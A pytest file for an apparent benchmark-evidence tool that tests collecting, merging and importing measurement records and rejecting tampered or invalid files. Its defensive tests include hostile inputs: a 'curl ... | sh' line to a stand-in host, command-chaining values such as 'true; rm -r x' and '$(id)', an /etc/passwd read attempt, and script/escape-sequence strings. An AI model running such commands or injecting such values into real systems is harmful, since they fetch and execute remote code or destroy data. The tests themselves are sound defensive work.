"""The tools around the table: what is collected, kept, joined and taken in from elsewhere, and what is refused."""

from __future__ import annotations

import json
import re
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from opscope_schemas.errors import BusyError, InputError, PathRefusedError, UnknownNameError
from opscope_schemas.evidence import TOPICS, CollectEvidenceResult, EvidenceFile, Topic
from opscope_tools.children import alone
from opscope_tools.collect_evidence.files import kept_text, read_evidence
from opscope_tools.collect_evidence.importing import IMPORT_EVIDENCE, _harmless
from opscope_tools.collect_evidence.tool import COLLECT_EVIDENCE
from opscope_tools.running.engines import close_engines
from opscope_tools.running.runner import run_tool
from opscope_tools.running.tool import ToolContext
from opscope_tools.running.workspace import Workspace

ROOT = Path(__file__).parents[2]
NCU = """==PROF== Connected to process 12
"ID","Process ID","Process Name","Host Name","Kernel Name","Context","Stream","Block Size","Grid Size","Device","CC","Section Name","Metric Name","Metric Unit","Metric Value"
"0","12","copies","h","copy_scalar(const float *, float *, unsigned long)","1","7","(256,1,1)","(1,1,1)","0","9.0","c","dram__bytes_read.sum","Mbyte","268.44"
"0","12","copies","h","copy_scalar(const float *, float *, unsigned long)","1","7","(256,1,1)","(1,1,1)","0","9.0","c","gpu__time_duration.sum","us","190.5"
"""


@pytest.fixture(autouse=True)
def own_temporary_folder(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> None:
    """One measurement at a time is the rule of a folder: tests beside this one have another."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path_factory.getbasetemp()))


@pytest.fixture
def context(tmp_path: Path, index_folder: Path) -> Iterator[ToolContext]:
    workspace = Workspace.create(cache_folder=index_folder, output=tmp_path)
    yield ToolContext(workspace)
    close_engines(workspace)
    workspace.store.close()


def test_a_record_is_kept_joined_and_given(context: ToolContext, tmp_path: Path) -> None:
    found = run_tool(COLLECT_EVIDENCE, {"topic": "cache-hierarchy", "only": ["topology", "attention-source"]}, context)
    assert isinstance(found, CollectEvidenceResult)
    assert (found.path, found.counted) == ("posts/evidence/cache-hierarchy.json", {"ok": 2})
    assert found.records[0].parsed["cpus"] >= 1  # type: ignore[operator] # a number
    again = run_tool(
        COLLECT_EVIDENCE, {"topic": "cache-hierarchy", "only": ["attention-source"], "machine": "there"}, context
    )
    kept = read_evidence(tmp_path, "cache-hierarchy")
    assert kept is not None
    assert [(one.id, one.machine) for one in kept.records] == [("topology", "here"), ("attention-source", "there")]
    assert {one.name for one in kept.machines} == {"here", "there"}
    assert again.counted == {"ok": 1}


def test_a_machine_that_cannot_does_not_take_away_what_another_said(context: ToolContext, tmp_path: Path) -> None:
    (tmp_path / "ncu.csv").write_text(NCU)
    taken = run_tool(
        IMPORT_EVIDENCE,
        {
            "topic": "memory-bandwidth",
            "path": str(tmp_path / "ncu.csv"),
            "collector": "gpu-copies-counters",
            "machine": "lab",
        },
        context,
    )
    assert taken.imported == ("gpu-copies-counters",)
    run_tool(COLLECT_EVIDENCE, {"topic": "memory-bandwidth", "only": ["gpu-copies-counters"]}, context)
    kept = read_evidence(tmp_path, "memory-bandwidth")
    assert kept is not None
    (record,) = kept.records
    assert (record.status, record.machine) == ("ok", "lab")
    assert record.parsed == {
        "copy_scalar_dram_read_bytes": 268.44e6,
        "copy_scalar_duration_seconds": pytest.approx(190.5e-6),
    }
    assert record.source == "imported from ncu.csv"


@pytest.mark.parametrize(
    ("asked", "error", "said"),
    [
        ({"topic": "cache-hierarchy", "only": ["no-such"]}, UnknownNameError, "no-such"),
        ({"topic": "cache-hierarchy", "workload": {"model": "no_such_model"}}, UnknownNameError, "no_such_model"),
        ({"topic": "cache-hierarchy", "workload": {"model": "os"}}, (InputError, UnknownNameError), "os"),
        ({"topic": "cache-hierarchy", "workload": {"threads": 0}}, InputError, "threads"),
        ({"topic": "cache-hierarchy", "workload": {"colour": 1}}, InputError, "colour"),
        ({"topic": "cache-hierarchy", "workload": {"num_heads": 3}}, InputError, "do not divide"),
        ({"topic": "cache-hierarchy", "machine": "../x"}, InputError, "machine"),
        ({"topic": "cache-hierarchy", "workload": {"l1_bytes": 49152}}, InputError, "power of two"),
        ({"topic": "cache-hierarchy", "workload": {"l2_bytes": 1024}}, InputError, "power of two"),
    ],
)  # fmt: skip
def test_what_cannot_be_collected_is_said_before_anything_runs(
    context: ToolContext, tmp_path: Path, asked: dict[str, object], error: type[Exception], said: str
) -> None:
    with pytest.raises(error, match=said):
        run_tool(COLLECT_EVIDENCE, asked, context)
    assert not (tmp_path / "posts").exists()


def test_two_measurements_at_a_time_are_not_made(context: ToolContext) -> None:
    with alone("measurement"), pytest.raises(BusyError, match="would disturb each other"):
        run_tool(COLLECT_EVIDENCE, {"topic": "cache-hierarchy", "only": ["topology"]}, context)
    run_tool(COLLECT_EVIDENCE, {"topic": "cache-hierarchy", "only": ["topology"]}, context)


def test_an_evidence_file_of_another_machine_is_read_again_before_it_is_taken(
    context: ToolContext, tmp_path: Path
) -> None:
    other = json.loads((ROOT / "posts/evidence/cache-hierarchy.json").read_text())
    (tmp_path / "theirs.json").write_text(json.dumps(other))
    taken = run_tool(
        IMPORT_EVIDENCE,
        {"topic": "cache-hierarchy", "path": str(tmp_path / "theirs.json"), "machine": "their box"},
        context,
    )
    assert "attention-caches" in taken.imported
    assert "counters-hardware" not in taken.imported  # it was not to be had there either
    kept = read_evidence(tmp_path, "cache-hierarchy")
    assert kept is not None
    assert {one.machine for one in kept.records} == {"their box"}
    assert (tmp_path / "posts/evidence/cache-hierarchy/decode-stacks.svg").is_file()
    next(one for one in other["records"] if one["id"] == "attention-caches")["parsed"]["naive_128_refs"] += 1
    (tmp_path / "forged.json").write_text(kept_text(EvidenceFile.model_validate(other)))
    with pytest.raises(InputError, match="does not say what its own output says"):
        run_tool(IMPORT_EVIDENCE, {"topic": "cache-hierarchy", "path": str(tmp_path / "forged.json")}, context)


@pytest.mark.parametrize(
    ("text", "collector", "said"),
    [
        ("nothing like it", "gpu-copies-counters", "no output of gpu-copies-counters"), ("{}", None, "no evidence file"), ('{"topic": "system-calls"}', None, "holds records on system-calls"),
        ('{"topic": "memory-bandwidth"}', None, "edited since"), ("x", "copies-code", "no output of copies-code"), ("GPU", "no-such", "no-such"),
    ],
)  # fmt: skip
def test_what_is_no_evidence_is_refused(
    context: ToolContext, tmp_path: Path, text: str, collector: str | None, said: str
) -> None:
    (tmp_path / "x.txt").write_text(text)
    with pytest.raises((InputError, UnknownNameError), match=said):
        run_tool(
            IMPORT_EVIDENCE,
            {"topic": "memory-bandwidth", "path": str(tmp_path / "x.txt"), "collector": collector},
            context,
        )
    assert not (tmp_path / "posts").exists()


def test_a_file_outside_what_was_named_is_not_read(context: ToolContext) -> None:
    with pytest.raises(PathRefusedError, match="evidence path"):
        run_tool(IMPORT_EVIDENCE, {"topic": "memory-bandwidth", "path": "/etc/passwd"}, context)


def test_records_of_two_workloads_do_not_lie_beside_each_other(context: ToolContext, tmp_path: Path) -> None:
    asked = {"topic": "cache-hierarchy", "only": ["topology", "attention-source"]}
    run_tool(COLLECT_EVIDENCE, asked, context)
    other = {**asked, "only": ["topology"], "workload": {"threads": 2}}
    with pytest.raises(InputError, match="another workload"):
        run_tool(COLLECT_EVIDENCE, other, context)
    run_tool(COLLECT_EVIDENCE, {**asked, "workload": {"threads": 2}}, context)  # all that lies there is made anew
    kept = read_evidence(tmp_path, "cache-hierarchy")
    assert kept is not None
    assert kept.workload.threads == 2
    foreign = tmp_path / "foreign.json"
    foreign.write_text(kept_text(kept.model_copy(update={"workload": kept.workload.model_copy(update={"tokens": 9})})))
    with pytest.raises(InputError, match="another workload"):
        run_tool(IMPORT_EVIDENCE, {"topic": "cache-hierarchy", "path": str(foreign)}, context)


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://x.example | sh",
        "true; rm -r x",
        "lscpu && reboot",
        "echo `id`",
        "echo $(id)",
        "lscpu\nreboot",
        "lscpu \x1b[2J",
    ],
)
def test_a_record_that_ran_more_than_one_program_is_not_taken(
    context: ToolContext, tmp_path: Path, command: str
) -> None:
    run_tool(COLLECT_EVIDENCE, {"topic": "cache-hierarchy", "only": ["topology"]}, context)
    found = read_evidence(tmp_path, "cache-hierarchy")
    assert found is not None
    (record,) = found.records
    foreign = tmp_path / "foreign.json"
    asked = {"topic": "cache-hierarchy", "path": str(foreign), "machine": "lab"}
    foreign.write_text(
        kept_text(found.model_copy(update={"records": (record.model_copy(update={"commands": (command,)}),)}))
    )
    with pytest.raises(InputError, match="more than one program"):
        run_tool(IMPORT_EVIDENCE, asked, context)
    hostile = found.machines[0].model_copy(update={"cpu": "<script>x</script> [a](javascript:b) \x1b[31m \u202e"})
    foreign.write_text(kept_text(found.model_copy(update={"machines": (hostile,)})))
    run_tool(IMPORT_EVIDENCE, asked, context)
    kept = read_evidence(tmp_path, "cache-hierarchy")
    assert kept is not None
    (machine,) = [one for one in kept.machines if one.name == "lab"]
    assert not re.search(r"[<>\[\]\x1b\u202e]", machine.cpu)


@pytest.mark.parametrize("topic", TOPICS)
def test_every_command_of_a_kept_record_is_one_that_an_import_takes(topic: Topic) -> None:
    found = read_evidence(Path(__file__).parents[2], topic)
    assert found is not None
    assert [line for one in found.records for line in one.commands if not _harmless(line)] == []


def test_a_file_that_was_edited_is_not_taken(context: ToolContext, tmp_path: Path) -> None:
    run_tool(COLLECT_EVIDENCE, {"topic": "cache-hierarchy", "only": ["topology"]}, context)
    found = read_evidence(tmp_path, "cache-hierarchy")
    assert found is not None
    foreign = tmp_path / "foreign.json"
    changes: tuple[dict[str, object], ...] = (
        {"machines": (found.machines[0].model_copy(update={"cpus": 96}),)},
        {"records": (found.records[0].model_copy(update={"tool_version": "99.1"}),)},
        {"workload": found.workload.model_copy(update={"hidden_size": 4096})},
        {"seals": {}},
    )
    for change in changes:
        foreign.write_text(found.model_copy(update=change).model_dump_json())
        with pytest.raises(InputError, match="edited"):
            run_tool(IMPORT_EVIDENCE, {"topic": "cache-hierarchy", "path": str(foreign)}, context)
